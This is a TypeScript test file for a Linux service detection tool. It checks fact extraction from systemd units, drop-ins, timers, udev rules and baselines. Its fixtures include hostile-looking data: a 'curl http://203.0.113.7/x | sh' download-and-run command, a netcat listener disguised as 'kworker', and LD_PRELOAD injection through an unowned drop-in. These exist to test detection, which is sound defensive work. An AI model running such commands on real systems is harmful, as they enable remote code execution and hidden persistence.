import { describe, expect, it } from 'vitest';
import { createFactContext, type FactInput } from '../../../../main/detect/facts/fact-context.ts';
import { linuxServiceFields } from '../../../../main/detect/facts/linux/linux-service-fields.ts';
import { FieldRecord } from '../../../../main/detect/sigma/sigma.ts';
import { LINUX_SERVICE_FIELDS, type LinuxServiceField } from '../../../../main/detect/taxonomy.ts';
import type { ServiceRecord } from '../../../../shared/model/service-record.ts';
import { file, payload, process, sections, unit } from './linux-record.ts';

/** Values of fields of a record, among others. */
function facts(record: ServiceRecord, fields: readonly LinuxServiceField[], input: Partial<FactInput> = {}) {
  const context = createFactContext({ services: [record], ...input });
  const values = new FieldRecord(linuxServiceFields(record, context));
  return Object.fromEntries(fields.map((name) => [name, values.get(name)]));
}

const DROP_IN = '/etc/systemd/system/ssh.service.d/a.conf';
const VENDOR = '/usr/lib/systemd/system/ssh.service';

describe('fields of Linux services', () => {
  it('are those of the taxonomy', () => {
    const record = unit('x.service', '/opt/x');
    const fields = linuxServiceFields(record, createFactContext({ services: [record] }));
    expect(Object.keys(fields).sort()).toEqual(Object.keys(LINUX_SERVICE_FIELDS).sort());
  });

  it('can all be worked out for each kind of record, also an empty one', () => {
    const bare: ServiceRecord = { ...unit('x', null), payloads: [], command: null };
    delete bare.systemd;
    delete bare.definitions;
    for (const record of [bare, unit('x.service', null), unit('', '/x'), unit('a@b.timer', '-/x')]) {
      const context = createFactContext({ services: [record], filesComplete: true, binaries: [] });
      const values = new FieldRecord(linuxServiceFields(record, context));
      for (const name of Object.keys(LINUX_SERVICE_FIELDS)) values.get(name);
    }
  });

  it('take prefixes off commands and look into inline code', () => {
    const record = unit(
      'x.service',
      "-!/bin/sh -c 'curl http://203.0.113.7/x | sh' ; @/usr/bin/env kworker nc -l 1",
    );
    expect(facts(record, ['CommandLines', 'ExecPrefixes', 'Argv0', 'InlineCode', 'Programs'])).toEqual({
      CommandLines: [
        "/bin/sh -c 'curl http://203.0.113.7/x | sh'",
        '/usr/bin/env nc -l 1',
        'curl http://203.0.113.7/x | sh',
      ],
      ExecPrefixes: ['-', '!', '@'],
      Argv0: ['kworker'],
      InlineCode: ['curl http://203.0.113.7/x | sh'],
      Programs: ['sh', 'curl', 'env', 'nc'],
    });
  });

  it('tell what starts from what stops', () => {
    const path = '/etc/systemd/system/x.service';
    const record = unit('x.service', '/opt/x', {
      sections: sections(
        { Service: { ExecStartPre: ['/bin/a'], ExecStart: ['/opt/x'], ExecStop: ['/bin/sh -c "id"'] } },
        path,
      ),
    });
    expect(facts(record, ['StartCommands', 'StopCommands', 'ExecStop'])).toEqual({
      StartCommands: ['/bin/a', '/opt/x'],
      StopCommands: ['/bin/sh -c "id"', 'id'],
      ExecStop: ['/bin/sh -c "id"'],
    });
  });

  it.each([
    ['owned-unchanged', true, true],
    ['owned-not-verified', true, true],
    ['owned-changed', false, false],
    ['conffile-changed', false, false],
    ['not-owned', false, false],
    ['no-database', undefined, true],
  ] as const)('say of a unit in the folder of packages that is %s whether it is packaged', (state, packaged, vendor) => {
    const record = unit('ssh.service', '/usr/sbin/sshd -D', { fragmentPath: VENDOR });
    expect(facts(record, ['Packaged', 'FromVendor'], { binaries: [file(VENDOR, state)] })).toEqual({
      Packaged: packaged,
      FromVendor: vendor,
    });
  });

  it('see what a drop-in of nobody does to a packaged unit', () => {
    const record = unit('ssh.service', '/usr/sbin/sshd -D', {
      fragmentPath: VENDOR,
      dropIns: [{ path: DROP_IN, level: 'unit' }],
      sections: sections(
        { Service: { ExecStart: ['/opt/sshd'], Environment: ['LD_PRELOAD=/opt/x.so A=b'] } },
        DROP_IN,
      ),
      replaced: [
        {
          section: 'Service',
          key: 'ExecStart',
          value: '/usr/sbin/sshd -D',
          path: VENDOR,
          line: 3,
          by: DROP_IN,
        },
      ],
    });
    record.definitions?.push({ role: 'drop-in', path: DROP_IN, evidencePath: DROP_IN });
    record.payloads.push(payload('preload-library', '/opt/x.so', { raw: 'LD_PRELOAD=/opt/x.so' }));
    const binaries = [
      file(VENDOR, 'owned-unchanged'),
      file(DROP_IN, 'not-owned'),
      file('/opt/x.so', 'not-owned'),
    ];
    expect(
      facts(
        record,
        [
          'Packaged',
          'ForeignDropIns',
          'DropInDirectives',
          'ReplacedDirectives',
          'PreloadVariables',
          'UnownedPreloads',
        ],
        { binaries },
      ),
    ).toEqual({
      Packaged: false,
      ForeignDropIns: [DROP_IN],
      DropInDirectives: ['Service.ExecStart', 'Service.Environment'],
      ReplacedDirectives: ['Service.ExecStart'],
      PreloadVariables: ['LD_PRELOAD=/opt/x.so'],
      UnownedPreloads: ['/opt/x.so'],
    });
    const { systemd } = record;
    if (systemd === undefined) throw new Error('a unit has a block of systemd');
    const harmless = {
      ...record,
      systemd: { ...systemd, replaced: [], sections: sections({ Service: { LimitNOFILE: ['9'] } }, DROP_IN) },
    };
    expect(facts(harmless, ['Packaged', 'DropInDirectives'], { binaries })).toEqual({
      Packaged: true,
      DropInDirectives: ['Service.LimitNOFILE'],
    });
  });

  it('join timers and activators with what they start', () => {
    const service = unit('x.service', '/opt/x', {}, { kind: 'service' });
    const timer = unit('x.timer', null, {
      triggers: ['x.service'],
      sections: sections({ Timer: { OnUnitActiveSec: ['1min 30s'], OnCalendar: ['daily'] } }, ''),
    });
    const rule: ServiceRecord = {
      ...unit('99-x.rules:1', null),
      activator: {
        mechanism: 'udev-rule',
        user: null,
        trigger: null,
        startsUnit: 'y.service x.service',
        properties: {},
      },
      definitions: [{ role: 'config', path: '/etc/udev/rules.d/99-x.rules', evidencePath: null }],
    };
    delete rule.systemd;
    const input = {
      services: [service, timer, rule],
      binaries: [
        file('/opt/x', 'not-owned'),
        file('/etc/systemd/system/x.service', 'not-owned'),
        file('/etc/udev/rules.d/99-x.rules', 'not-owned'),
      ],
    };
    expect(facts(timer, ['TimerSeconds', 'TriggeredPrograms', 'TriggeredUnowned'], input)).toEqual({
      TimerSeconds: 90,
      TriggeredPrograms: ['/opt/x'],
      TriggeredUnowned: ['x.service'],
    });
    expect(facts(service, ['ActivatedBy', 'ActivatorsNotOwned'], input)).toEqual({
      ActivatedBy: ['udev-rule'],
      ActivatorsNotOwned: ['/etc/udev/rules.d/99-x.rules'],
    });
  });

  it('name who may write, without administrators and the account itself', () => {
    const record = unit('x.service', '/opt/x/x', {}, { account: 'alice' });
    const binaries = [
      file('/opt/x/x', 'not-owned', {
        writableBy: ['user alice', 'group staff', 'group web (/opt/x)', 'everyone (/opt)'],
      }),
    ];
    expect(facts(record, ['WritableBy', 'WritablePaths'], { binaries })).toEqual({
      WritableBy: ['group web', 'everyone'],
      WritablePaths: ['/opt/x/x: group web (/opt/x)', '/opt/x/x: everyone (/opt)'],
    });
  });

  it('tell a deleted program from one that an update replaced', () => {
    const record = unit('x.service', '/usr/sbin/x', {
      processes: [
        process('/usr/sbin/x', { executableDeleted: true }),
        process('/memfd:a', { executableDeleted: true, main: false }),
        process('/usr/lib/x/helper', { executableDeleted: true, main: false }),
        process('/tmp/y', { main: false }),
      ],
    });
    const binaries = [file('/usr/sbin/x', 'owned-unchanged')];
    expect(facts(record, ['RunningDeleted', 'RunningPrograms', 'RunningElsewhere'], { binaries })).toEqual({
      RunningDeleted: ['/memfd:a'],
      RunningPrograms: ['x', 'memfd:a', 'helper', 'y'],
      RunningElsewhere: [],
    });
  });

  it('see that the main process is another program than the unit names', () => {
    const record = unit('x.service', '/usr/sbin/x', { processes: [process('/dev/shm/x')] });
    expect(
      facts(record, ['RunningElsewhere', 'RunningUnowned'], { binaries: [file('/dev/shm/x', 'not-owned')] }),
    ).toEqual({
      RunningElsewhere: ['/dev/shm/x'],
      RunningUnowned: ['/dev/shm/x'],
    });
  });

  it('know what a link enables although it is gone, and what cannot start', () => {
    const link = {
      path: '/etc/systemd/system/multi-user.target.wants/x.service',
      kind: 'wants',
      unit: 'multi-user.target',
    } as const;
    const gone = unit('x.service', null, { fragmentPath: null, enabledBy: [link] });
    expect(facts(gone, ['EnabledMissing'], { filesComplete: true })).toEqual({ EnabledMissing: true });
    expect(facts(gone, ['EnabledMissing'])).toEqual({ EnabledMissing: false });
    const needs = unit('y.service', '/y', {
      sections: sections({ Unit: { Requires: ['x.service z.service dev-sda.device'] } }, ''),
    });
    const services = [needs, unit('z.service', '/z')];
    expect(facts(needs, ['DependencyBroken'], { services, filesComplete: true })).toEqual({
      DependencyBroken: ['x.service'],
    });
  });

  it('compare with a baseline by id', () => {
    const before = unit('x.service', '/opt/x');
    expect(facts(unit('x.service', '/opt/x'), ['BaselineState'], { baseline: [before] })).toEqual({
      BaselineState: 'same',
    });
    expect(
      facts(unit('x.service', '/opt/y'), ['BaselineState', 'BaselineChanges'], { baseline: [before] }),
    ).toEqual({
      BaselineState: 'changed',
      BaselineChanges: ['CommandLines', 'PayloadPaths'],
    });
    expect(facts(unit('z.service', '/opt/x'), ['BaselineState'], { baseline: [before] })).toEqual({
      BaselineState: 'new',
    });
    expect(facts(before, ['BaselineState'])).toEqual({ BaselineState: undefined });
  });

  it('take little time for a hostile unit', () => {
    const started = performance.now();
    for (const part of ["sh -c '", 'curl x | ', '/tmp/', ' ; ', '$(', '-@', 'a=b ', '"']) {
      const text = `/bin/sh ${part.repeat(200_000 / part.length)}`;
      const record = unit('x.service', text, {
        sections: sections(
          { Service: { ExecStart: [text], Environment: [text] }, Unit: { Requires: [text] } },
          '/x',
        ),
      });
      const values = new FieldRecord(
        linuxServiceFields(record, createFactContext({ services: [record], filesComplete: true })),
      );
      for (const name of Object.keys(LINUX_SERVICE_FIELDS)) values.get(name);
    }
    expect(performance.now() - started).toBeLessThan(8000);
  });
});
